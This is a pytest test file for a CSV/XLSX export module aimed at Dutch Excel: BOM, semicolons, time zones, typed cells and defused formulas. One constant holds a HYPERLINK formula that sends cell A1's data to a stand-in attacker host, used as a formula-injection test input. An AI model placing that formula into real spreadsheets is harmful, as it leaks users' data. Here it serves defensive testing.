"""Export as a Dutch Excel opens it: CSV with a BOM and ';', .xlsx with typed cells; names in any script kept,
formulas defused in both."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pydantic import BaseModel

from models import CaseStatus
from passage.core.tabular import BOM, to_csv, to_xlsx

FORMULA = '=HYPERLINK("https://attacker.example.org/?d="&A1,"details")'


class Row(BaseModel):
    ref: str
    status: CaseStatus
    due: date | None


ROWS: list[dict[str, object]] = [
    {
        "ref": "RST-00001",
        "name": "محمد الأحمد",
        "status": CaseStatus.ACTIVE,
        "at": datetime(2026, 1, 2, 3, 4, tzinfo=UTC),
        "hours": 2.5,
        "persons": 3,
    },
    {"ref": "RST-00002", "name": 'Anna "Nan"; Example', "status": CaseStatus.CLOSED, "at": None, "hours": None},
]


def test_rows_become_a_bom_semicolon_csv_with_decimal_commas_and_office_times() -> None:
    assert (
        to_csv(ROWS)
        == (
            BOM + "ref;name;status;at;hours;persons\r\n"
            "RST-00001;محمد الأحمد;active;2026-01-02 04:04;2,5;3\r\n"  # 03:04 UTC is 04:04 in Amsterdam
            'RST-00002;"Anna ""Nan""; Example";closed;;;\r\n'
        ).encode("utf-8")
    )


def test_the_csv_export_opens_as_columns() -> None:
    """As a spreadsheet sees it: the BOM tells UTF-8, the sniffed separator is ';', each value in its column."""
    text = to_csv(ROWS).decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=";,")
    assert dialect.delimiter == ";"
    header, first, second = csv.reader(io.StringIO(text), delimiter=dialect.delimiter)
    assert dict(zip(header, first, strict=True))["name"] == "محمد الأحمد"
    assert dict(zip(header, second, strict=True))["name"] == 'Anna "Nan"; Example'


def test_pydantic_rows_export_their_fields() -> None:
    assert to_csv([Row(ref="FAM-00003", status=CaseStatus.NEW, due=date(2026, 2, 1))]) == (
        f"{BOM}ref;status;due\r\nFAM-00003;new;2026-02-01\r\n".encode()
    )


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+2", "'=1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("+31 20", "'+31 20"), ("-3", "-3"), ("3-4", "3-4")],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_stays_text_in_a_csv(value: str, cell: str) -> None:
    assert to_csv([{"v": value}]) == f"{BOM}v\r\n{cell}\r\n".encode()


def test_nothing_to_export_is_an_empty_file_and_columns_alone_are_a_header() -> None:
    assert to_csv([]) == b""
    assert to_csv([], columns=["a", "b"]) == f"{BOM}a;b\r\n".encode()


def test_a_workbook_has_typed_cells_a_frozen_bold_header_and_wide_enough_columns() -> None:
    rows = [{**ROWS[0], "born": date(1984, 3, 2), "principal": True, "amount": Decimal("12.50")}]
    book = load_workbook(io.BytesIO(to_xlsx({"cases": rows})))
    (sheet,) = book.worksheets
    assert sheet.title == "cases" and sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == [*rows[0]]
    assert all(cell.font.b for cell in sheet[1])
    values = {name: cell.value for name, cell in zip(rows[0], sheet[2], strict=True)}
    assert values == {
        "ref": "RST-00001",
        "name": "محمد الأحمد",
        "status": "active",
        "at": datetime(2026, 1, 2, 4, 4),  # Excel has no time zones: the office's clock
        "hours": 2.5,
        "persons": 3,
        "born": datetime(1984, 3, 2),  # a date cell (openpyxl reads every date as a datetime)
        "principal": True,
        "amount": 12.5,
    }
    assert sheet["G2"].number_format == "yyyy-mm-dd" and sheet["D2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet.column_dimensions["A"].width == 11  # "RST-00001": 9 characters, and a margin
    assert sheet.column_dimensions["F"].width == 10  # at least 8 characters wide


def test_a_formula_typed_as_text_stays_text_in_a_workbook() -> None:
    content = to_xlsx({"names": [{"name": FORMULA}, {"name": "-1 + 2"}, {"name": "-3"}]})
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert [sheet[f"A{row}"].value for row in (2, 3, 4)] == [FORMULA, "-1 + 2", "-3"]  # as typed, not run
    assert [sheet[f"A{row}"].data_type for row in (2, 3, 4)] == ["s", "s", "s"]
    # Excel keeps a quote-prefixed cell text even when someone edits it.
    assert sheet["A2"].quotePrefix and sheet["A3"].quotePrefix and not sheet["A4"].quotePrefix


def test_sheet_titles_follow_excels_rules_and_each_sheet_has_its_header() -> None:
    content = to_xlsx({"dashboard/resettlement-nl: week [48] of 2026": [], "example": [{"a": 1}]}, columns=["a"])
    first, second = load_workbook(io.BytesIO(content)).worksheets
    assert first.title == "dashboard-resettlement-nl- week"
    assert [[cell.value for cell in row] for row in first.iter_rows()] == [["a"]]
    assert [[cell.value for cell in row] for row in second.iter_rows()] == [["a"], [1]]
